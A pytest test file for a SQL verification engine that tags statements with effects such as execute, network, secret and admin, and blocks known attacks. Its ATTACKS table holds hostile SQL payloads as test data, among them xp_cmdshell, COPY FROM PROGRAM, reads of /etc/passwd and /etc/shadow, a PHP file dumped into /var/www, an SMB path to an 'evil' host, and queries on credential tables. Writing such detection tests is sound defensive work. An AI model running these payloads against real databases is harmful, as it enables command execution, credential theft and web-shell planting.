"""Effects of statements and functions, parsed or not, and the refusals of strict requests."""

import pytest

from qwed.engines.protocol import EngineRequest
from qwed.engines.sql import verify
from qwed.model import Effect, EffectKind, Status, Verdict
from tests.support.case_tables import each

READ, WRITE, DELETE = EffectKind.READ, EffectKind.WRITE, EffectKind.DELETE
EXECUTE, NETWORK, ADMIN, SECRET = EffectKind.EXECUTE, EffectKind.NETWORK, EffectKind.ADMIN, EffectKind.SECRET


def ask(query: str, dialect: str = "", *, strict: bool = False) -> Verdict:
    return verify(EngineRequest(query=query, parameters={"dialect": dialect}, strict=strict))


ATTACKS = [
    ("EXEC xp_cmdshell 'dir'", "tsql", Effect(EXECUTE, "xp_cmdshell")),
    ("EXEC xp_cmdshell 'dir'", "", Effect(EXECUTE, "xp_cmdshell")),
    ("EXEC master..xp_cmdshell 'dir'", "tsql", Effect(EXECUTE, "xp_cmdshell")),
    ("EXEC master.dbo.xp_dirtree '\\\\evil\\share'", "tsql", Effect(NETWORK, "\\\\evil\\share")),
    ("EXEC sp_executesql N'DROP TABLE t'", "tsql", Effect(EXECUTE, "sp_executesql")),
    ("EXEC sp_configure 'xp_cmdshell', 1", "tsql", Effect(ADMIN, "sp_configure")),
    ("COPY t FROM PROGRAM 'id'", "postgres", Effect(EXECUTE, "PROGRAM")),
    ("COPY t TO '/tmp/x'", "postgres", Effect(WRITE, "/tmp/x")),
    ("COPY t FROM '/etc/passwd'", "postgres", Effect(SECRET, "/etc/passwd")),
    ("COPY t TO 's3://bucket/x'", "duckdb", Effect(NETWORK, "s3://bucket/x")),
    ("ATTACH DATABASE '/tmp/x.db' AS y", "sqlite", Effect(WRITE, "/tmp/x.db")),
    ("ATTACH DATABASE '/etc/shadow' AS y", "", Effect(SECRET, "/etc/shadow")),
    ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "mysql", Effect(READ, "/etc/passwd")),
    ("LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t", "mysql", Effect(READ, "/tmp/x")),
    ("SELECT * FROM t INTO OUTFILE '/tmp/x'", "mysql", Effect(WRITE, "/tmp/x")),
    ("SELECT 'x' INTO DUMPFILE '/var/www/a.php'", "mysql", Effect(WRITE, "/var/www/a.php")),
    ("SELECT LOAD_FILE('/etc/passwd')", "mysql", Effect(SECRET, "/etc/passwd")),
    ("SELECT pg_read_file('/etc/passwd')", "postgres", Effect(READ, "/etc/passwd")),
    ("SELECT lo_export(5, '/tmp/x')", "postgres", Effect(WRITE, "/tmp/x")),
    ("SELECT lo_unlink(5)", "postgres", Effect(DELETE, "lo_unlink")),
    ("SELECT writefile('/tmp/x', 'y')", "sqlite", Effect(WRITE, "/tmp/x")),
    ("SELECT * FROM read_csv('https://a.com/x.csv')", "duckdb", Effect(NETWORK, "https://a.com/x.csv")),
    ("SELECT * FROM dblink('host=a.com', 'select 1') AS t(a int)", "postgres", Effect(NETWORK, "host=a.com")),
    ("SELECT UTL_HTTP.REQUEST('http://a.com') FROM dual", "oracle", Effect(NETWORK, "http://a.com")),
    ("SELECT pg_terminate_backend(5)", "postgres", Effect(ADMIN, "pg_terminate_backend")),
    ("SELECT pg_reload_conf()", "postgres", Effect(ADMIN, "pg_reload_conf")),
    ("SELECT set_config('role', 'postgres', false)", "postgres", Effect(ADMIN, "set_config")),
    ("SELECT load_extension('x.so')", "sqlite", Effect(EXECUTE, "load_extension")),
    ("BULK INSERT t FROM 'c:\\x'", "tsql", Effect(READ, "c:\\x")),
    ("VACUUM INTO '/tmp/x'", "sqlite", Effect(WRITE, "/tmp/x")),
    ("WAITFOR DELAY '0:0:5'", "tsql", Effect(EXECUTE, "WAITFOR")),
    ("SHUTDOWN", "tsql", Effect(ADMIN, "SHUTDOWN")),
    ("SELECT usename FROM pg_shadow", "postgres", Effect(SECRET, "pg_shadow")),
    ("SELECT user FROM mysql.user", "mysql", Effect(SECRET, "mysql.user")),
]


@each(("query", "dialect", "effect"), ATTACKS)
def test_a_known_attack_has_the_effect_it_has_and_is_a_violation(query: str, dialect: str, effect: Effect) -> None:
    verdict = ask(query, dialect)
    assert verdict.status is Status.BLOCKED
    assert effect in verdict.effects
    assert verdict.violations


PLAIN = [
    ("SHOW TABLES", "mysql", READ),
    ("SHOW TABLES", "", READ),
    ("SHOW search_path", "postgres", READ),
    ("DESCRIBE users", "mysql", READ),
    ("PRAGMA table_info(users)", "sqlite", READ),
    ("PRAGMA user_version", "sqlite", READ),
    ("EXPLAIN SELECT id FROM users", "postgres", READ),
    ("SELECT id FROM users FOR UPDATE", "postgres", READ),
    ("EXEC sp_help 'users'", "tsql", READ),
    ("CREATE USER bob", "postgres", ADMIN),
    ("ALTER SYSTEM SET work_mem = '1GB'", "postgres", ADMIN),
    ("SET ROLE bob", "postgres", ADMIN),
    ("SET search_path TO sales", "postgres", ADMIN),
    ("GRANT SELECT ON users TO bob", "postgres", ADMIN),
    ("VACUUM", "sqlite", ADMIN),
    ("SELECT nextval('numbers')", "postgres", WRITE),
    ("SELECT numbers.NEXTVAL FROM dual", "oracle", WRITE),
    ("SELECT set_config('app.tenant', '5', true)", "postgres", WRITE),
    ("SELECT pg_advisory_xact_lock(5)", "postgres", WRITE),
    ("SELECT id INTO copy FROM users", "postgres", WRITE),
    ("CREATE TABLE copy AS SELECT id FROM users", "", WRITE),
    ("REPLACE INTO t (a) VALUES (1)", "mysql", WRITE),
    ("REPLACE INTO t (a) VALUES (1)", "", WRITE),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO NOTHING", "postgres", WRITE),
    ("SELECT name FROM people@sales", "oracle", NETWORK),
]


@each(("query", "dialect", "kind"), PLAIN)
def test_a_plain_statement_has_an_effect_and_no_violation(query: str, dialect: str, kind: EffectKind) -> None:
    verdict = ask(query, dialect)
    assert verdict.status is Status.VERIFIED
    assert kind in {effect.kind for effect in verdict.effects}


@each(("query", "dialect", "kind"), PLAIN)
def test_strict_allows_reads_alone(query: str, dialect: str, kind: EffectKind) -> None:
    verdict = ask(query, dialect, strict=True)
    assert verdict.status is (Status.VERIFIED if kind is READ else Status.BLOCKED)
    assert ("no_destructive_operations" in verdict.checks_failed) is (kind is not READ)
    assert verdict.violations == ()


def test_reading_a_sensitive_column_is_a_secret_effect() -> None:
    for query in (
        "SELECT password FROM users",
        "SELECT upper(u.password) AS p FROM users u",
        "SELECT id FROM users WHERE password LIKE 'a%'",
        "SELECT id FROM users ORDER BY cast(password AS text)",
    ):
        assert Effect(SECRET, "users") in ask(query).effects
    assert Effect(SECRET, "users") not in ask("SELECT id FROM users").effects


def test_an_unresolved_statement_still_tells_the_calls_in_it() -> None:
    verdict = ask("DO $$ BEGIN PERFORM pg_sleep(5); END $$", "postgres")
    assert "dangerous_function:pg_sleep" in verdict.violations
    assert EffectKind.UNRESOLVED in {effect.kind for effect in verdict.effects}


def test_a_command_whose_tables_are_unknown_is_outside_a_list_of_tables() -> None:
    request = EngineRequest(query="VACUUM orders", parameters={"dialect": "postgres", "allowed_tables": ["users"]})
    assert "tables_allowed" in verify(request).checks_failed


@pytest.mark.parametrize(
    "query", ["SELECT DBMS_LOB.SUBSTR(doc, 9, 1) FROM docs", "SELECT DBMS_RANDOM.VALUE(1, 9) FROM dual"]
)
def test_a_package_that_only_computes_is_harmless(query: str) -> None:
    assert ask(query, "oracle").verified
